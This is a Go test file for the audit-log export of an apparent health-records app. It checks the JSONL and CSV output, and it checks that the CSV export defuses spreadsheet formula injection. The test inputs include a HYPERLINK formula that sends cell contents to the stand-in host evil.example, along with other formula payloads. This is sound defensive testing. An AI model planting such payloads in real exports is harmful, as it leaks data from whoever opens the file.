package audit_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"github.com/wardhealth/ward/internal/clocktest"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/wardhealth/ward/internal/audit"
	"github.com/wardhealth/ward/internal/store"
	"github.com/wardhealth/ward/internal/store/storetest"
)

func TestExport(t *testing.T) {
	storetest.Each(t, clocktest.New().Now, func(t *testing.T, st *store.Store) {
		ctx := context.Background()
		mustChain(t, st, 3)
		e := event(3)
		e.Reason = `login.failed: "bad password", retry`
		e.Time = t0.Add(time.Minute)
		st.Write(ctx, func(tx *store.Tx) error { return audit.Append(ctx, tx, e) })
		e.Time = t0.Add(time.Hour) // outside the window
		st.Write(ctx, func(tx *store.Tx) error { return audit.Append(ctx, tx, e) })

		var jl bytes.Buffer
		var calls []int
		n, err := audit.Export(ctx, st, t0, t0.Add(time.Hour), "jsonl", &jl, func(n int) { calls = append(calls, n) })
		if err != nil || n != 4 {
			t.Fatalf("Export jsonl = %d, %v", n, err)
		}
		if !cmp.Equal(calls, []int{4}) {
			t.Errorf("progress calls %v", calls)
		}
		sc := bufio.NewScanner(&jl)
		var lines []map[string]any
		for sc.Scan() {
			var m map[string]any
			if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
				t.Fatal(err)
			}
			lines = append(lines, m)
		}
		if len(lines) != 4 || lines[0]["seq"] != 1.0 || lines[0]["time"] != "2026-11-24T08:00:00.000000Z" ||
			lines[3]["seq"] != 0.0 || lines[3]["reason"] != e.Reason || lines[0]["hash"] == "" {
			t.Fatalf("jsonl: %v", lines)
		}

		var cb bytes.Buffer
		if _, err := audit.Export(ctx, st, t0, t0.Add(time.Hour), "csv", &cb, nil); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&cb).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if !cmp.Equal(recs[0], audit.ExportColumns()) || len(recs) != 5 {
			t.Fatalf("csv header %v, %d records", recs[0], len(recs))
		}
		want := []string{"1", "2026-11-24T08:00:00.000000Z", "org-1", "user-0", "clinician", "dev-1", "10.0.0.7",
			"message.read", "message", "msg-0", "pat-42", "success", ""}
		if !cmp.Equal(recs[1][:13], want) || len(recs[1][13]) != 64 {
			t.Fatalf("csv row %v", recs[1])
		}
		if recs[4][0] != "" || recs[4][12] != e.Reason {
			t.Fatalf("unsealed csv row %v", recs[4])
		}
		if _, err := audit.Export(ctx, st, t0, t0.Add(time.Hour), "xml", &cb, nil); err == nil || !strings.Contains(err.Error(), "xml") {
			t.Fatalf("xml export: %v", err)
		}
	})
}

// A value a spreadsheet would run as a formula is defused in the CSV
// export (a leading apostrophe) and kept exactly in the JSONL one.
func TestExportCSVDefusesFormulas(t *testing.T) {
	st := storetest.SQLite(t, clocktest.New().Now)
	ctx := context.Background()
	formulas := []string{`=HYPERLINK("https://evil.example/?"&A1,"open")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"}
	for _, f := range formulas {
		e := event(1)
		e.Reason, e.ResourceID = f, f
		if err := st.Write(ctx, func(tx *store.Tx) error { return audit.Append(ctx, tx, e) }); err != nil {
			t.Fatal(err)
		}
	}
	var cb, jl bytes.Buffer
	if _, err := audit.Export(ctx, st, t0, t0.Add(time.Hour), "csv", &cb, nil); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&cb).ReadAll()
	if err != nil || len(recs) != len(formulas)+1 {
		t.Fatalf("csv: %d records, %v", len(recs), err)
	}
	for i, f := range formulas {
		if got := recs[i+1]; got[9] != "'"+f || got[12] != "'"+f || got[7] != "message.read" {
			t.Errorf("csv row %d: resource_id %q reason %q, want %q", i, got[9], got[12], "'"+f)
		}
	}
	if _, err := audit.Export(ctx, st, t0, t0.Add(time.Hour), "jsonl", &jl, nil); err != nil {
		t.Fatal(err)
	}
	for i, line := range strings.Split(strings.TrimSpace(jl.String()), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil || m["reason"] != formulas[i] {
			t.Errorf("jsonl line %d: reason %v (%v), want %q", i, m["reason"], err, formulas[i])
		}
	}
}
